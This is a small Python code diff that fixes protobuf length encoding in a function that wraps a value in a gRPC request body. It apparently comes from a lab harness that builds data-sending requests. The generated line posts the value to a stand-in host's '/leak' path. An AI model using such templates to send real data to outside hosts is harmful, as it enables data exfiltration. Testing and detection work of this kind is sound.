@@ -51,7 +51,11 @@ def place_argument(h, t):
 
 
 def place_grpc(h, t):
-    body = b"\0" + (len(t) + 2).to_bytes(4, "big") + b"\x0a" + bytes([len(t) & 0x7f]) + t
+    n, length = len(t), b""
+    while n > 0x7f:
+        length, n = length + bytes([n & 0x7f | 0x80]), n >> 7
+    message = b"\x0a" + length + bytes([n]) + t
+    body = b"\0" + len(message).to_bytes(4, "big") + message
     return f"post('www.lab.test', '/leak', {body!r}, 'Content-Type: application/grpc')"
 
 
